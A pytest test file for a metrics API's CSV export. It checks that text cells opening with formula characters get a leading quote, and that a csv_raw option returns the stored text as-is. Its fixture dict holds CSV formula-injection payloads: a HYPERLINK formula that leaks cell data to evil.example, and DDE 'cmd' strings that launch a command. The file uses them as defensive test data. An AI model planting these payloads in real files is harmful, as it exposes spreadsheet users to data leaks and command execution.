"""CSV formula injection (issue 15, finding 3): text cells starting with = + - @ TAB or CR are exported
with a leading ' (numbers stay numbers); ``?csv_raw=1`` gives the stored text for BI tools."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest

from metrics.core.models import Person, Repository, Team
from metrics.ingestion.models import PullRequest, SyncRun
from tests.api.conftest import TokenClient
from tests.factories import make_snapshot

pytestmark = pytest.mark.django_db
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "team": "+cmd|' /C calc'!A0",
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "branch": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def table(response: Any) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8"))))


@pytest.fixture
def hostile(db: None) -> None:
    team = Team.objects.create(name=HOSTILE["team"], slug="t")
    repo = Repository.objects.create(full_name="acme/api", team=team, host="github")
    author = Person.objects.create(display_name=HOSTILE["person"])
    PullRequest.objects.create(
        repository=repo,
        number=1,
        author=author,
        title=HOSTILE["title"],
        state="merged",
        head_branch=HOSTILE["branch"],
        base_branch=HOSTILE["tab"],
        ai_tools=["@copilot", "copilot"],
    )
    make_snapshot(metric="cycle_time_hours", value=-3.5, period_start=dt.date(2025, 1, 6), team=team)
    SyncRun.objects.create(kind="git", source="-1", status="failed", error="=1+2")


def test_csv_cell_rule() -> None:
    from metrics.api.sql import csv_cell

    for text in HOSTILE.values():
        assert csv_cell(text) == "'" + text
    for kept in ("-3.5", "+12", "-1e5", ".5", "plain", "a=b", "", "2025-01-01", -3.5, 7, None):
        assert csv_cell(kept) == kept


def test_every_text_cell_of_the_api_csv_is_defused(hostile: None, token_client: TokenClient) -> None:
    client = token_client("admin")
    cells = [
        cell
        for endpoint in ("teams", "people", "pull-requests", "metrics", "sync-runs")
        for row in table(client.get(f"/api/v1/{endpoint}/?format=csv"))[1:]
        for cell in row
    ]
    for text in HOSTILE.values():
        assert text not in cells
    assert "'" + HOSTILE["title"] in cells and "'" + HOSTILE["person"] in cells
    assert "'" + HOSTILE["team"] in cells and "'" + HOSTILE["branch"] in cells
    assert "'" + HOSTILE["tab"] in cells and "'@copilot;copilot" in cells
    assert "-3.5" in cells and "-1" in cells and "'=1+2" in cells  # numbers stay numbers


def test_csv_raw_gives_the_stored_text(hostile: None, token_client: TokenClient) -> None:
    client = token_client("admin")
    rows = table(client.get("/api/v1/pull-requests/?format=csv&csv_raw=1"))
    header, (row,) = rows[0], rows[1:]
    assert row[header.index("title")] == HOSTILE["title"]
    assert row[header.index("head_branch")] == HOSTILE["branch"]
    bad = client.get("/api/v1/pull-requests/?format=csv&csv_raw=maybe")
    assert bad.status_code == 400 and bad.json()["detail"].startswith("csv_raw: ")


def test_survey_results_csv_is_defused_too(db: None) -> None:
    from django.test import Client

    from metrics.api.tokens import api_token_create
    from tests.factories import make_response, make_round, make_team_members

    team = Team.objects.create(name=HOSTILE["team"], slug="t")
    survey_round = make_round(teams=[team])
    for person in make_team_members(team, 5):
        make_response(survey_round=survey_round, team=team, person=person, overall=4)
    _token, raw = api_token_create(name="admin", role="admin")
    client = Client(HTTP_AUTHORIZATION=f"Bearer {raw}")
    cells = [
        c
        for row in table(client.get(f"/api/v1/survey-results/?round={survey_round.pk}&format=csv"))
        for c in row
    ]
    assert "'" + HOSTILE["team"] in cells and HOSTILE["team"] not in cells
    raw_cells = table(client.get(f"/api/v1/survey-results/?round={survey_round.pk}&format=csv&csv_raw=1"))
    assert HOSTILE["team"] in [c for row in raw_cells for c in row]
